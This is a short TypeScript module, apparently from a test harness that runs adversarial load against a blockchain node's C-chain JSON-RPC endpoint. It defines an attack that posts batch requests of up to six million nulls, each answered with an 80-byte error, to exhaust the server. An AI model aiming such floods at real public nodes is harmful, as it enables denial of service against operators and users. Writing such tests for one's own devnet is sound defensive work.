import type { Attack } from "../attack.ts";

const CALLS = [400_000, 1_000_000, 100_000, 6_000_000, 1000];

export const evmNullBatches: Attack = {
  name: "evm-null-batches",
  does: "posts batches of thousands to millions of nulls, each of which is answered by an error of 80 bytes",
  targets: ["serve", "devnet"],
  async run(attacker) {
    const bodies = CALLS.map((calls) => `[${"null,".repeat(calls - 1)}null]`);
    await attacker.again(2, (turn) => attacker.post("/ext/bc/C/rpc", bodies[turn % bodies.length]!));
  },
};
